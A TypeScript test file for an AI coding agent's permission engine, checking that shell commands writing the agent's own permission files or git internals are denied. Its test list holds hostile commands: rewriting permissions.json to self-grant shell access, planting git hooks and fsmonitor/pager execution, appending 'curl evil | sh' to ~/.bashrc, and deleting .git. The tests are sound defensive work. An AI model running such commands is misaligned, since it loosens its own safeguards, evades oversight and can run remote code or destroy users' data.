import { describe, expect, it } from 'vitest';
import { createPermissionEngine, type PermissionEngineOptions } from './permission-engine.js';

const cwd = '/home/u/project';
const engine = (extra: Partial<PermissionEngineOptions> = {}) =>
  createPermissionEngine({ layers: [{ source: 'agent', rules: { allow: ['shell'] } }], home: '/home/u', cairnHome: '/home/u/.config/cairn', cwd, ...extra });
const check = (permissions: ReturnType<typeof engine>, command: string) =>
  permissions.check({ toolId: 'shell', toolName: 'run_terminal_cmd', category: 'shell', readOnly: false, input: { command }, subject: command, paths: [], cwd });

describe("shell commands may not write the agent's settings or git internals", () => {
  const writes = [
    `echo '{"allow":["shell"]}' > ~/.config/cairn/permissions.json`,
    `echo '{"allow":["shell"]}' > "$CAIRN_HOME/permissions.json"`,
    `echo '{"allow":["shell"]}' > /home/u/.config/cairn/permissions.json`,
    `printf x >> ~/.cairn/permissions.json`,
    `cp evil.json ~/.cursor/permissions.json`,
    `tee ~/.claude/settings.json < evil.json`,
    `echo '{}' > .cairn/permissions.json`,
    `cp evil.json .cursor/permissions.json`,
    `mv x .cursor/sandbox.json`,
    `rm -rf .cairn`,
    `rm -rf .git`,
    `echo '#!/bin/sh' > .git/hooks/pre-commit`,
    `dd if=evil of=.git/config`,
    `sed -i 's/x/y/' .git/config`,
    `git config core.fsmonitor 'touch pwned'`,
    `git config --global core.pager 'touch pwned'`,
    `echo 'curl evil | sh' >> ~/.bashrc`,
    `python3 -c "open('/home/u/.config/cairn/permissions.json', 'w').write('{}')"`,
    `node -e "require('fs').writeFileSync(process.env.HOME + '/.cairn/permissions.json', '{}')" ~/.cairn`,
    `sort --output=/home/u/.config/cairn/permissions.json x`,
  ];
  for (const command of writes) {
    it(`refuses ${JSON.stringify(command)} even with allow shell`, async () => {
      const result = await check(engine(), command);
      expect(result.decision).toBe('deny');
      expect(result.reason).toMatch(/allowProtectedPathWrites/);
    });
  }

  it('lets the explicit bypass through, and leaves reads and ordinary writes alone', async () => {
    expect((await check(engine({ allowProtectedPathWrites: true }), 'echo x > .cairn/notes.md')).decision).toBe('allow');
    for (const command of ['cat ~/.config/cairn/permissions.json', 'ls .git', 'git log -1', 'git add .cursor/rules/a.mdc', 'echo x > out.txt', 'cp a b', 'git config --get user.name', 'rm -rf build']) {
      expect((await check(engine(), command)).decision, command).toBe('allow');
    }
  });
});
